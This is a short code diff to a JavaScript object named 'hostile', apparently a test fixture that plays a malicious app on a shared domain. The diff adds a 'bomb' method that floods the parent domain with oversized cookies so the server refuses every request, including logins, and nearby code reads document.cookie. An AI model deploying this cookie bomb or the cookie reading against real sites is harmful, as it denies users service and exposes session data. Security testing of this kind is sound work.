@@ -96,6 +96,17 @@ window.hostile = {
     return document.cookie;
   },
 
+  /** So many of them that the server reads no request any more, of any app and of the login. */
+  bomb() {
+    for (const path of ['/', '/auth']) {
+      for (let n = 0; n < 12; n++) {
+        // biome-ignore lint/suspicious/noDocumentCookie: the other way takes secure ones only
+        document.cookie = `bomb${n}=${'x'.repeat(3900)}; domain=${host}; path=${path}`;
+      }
+    }
+    return document.cookie.length;
+  },
+
   /** A window of another app, opened by it. */
   async look(slug) {
     const other = window.open(`http://${slug}.${domain}/`);
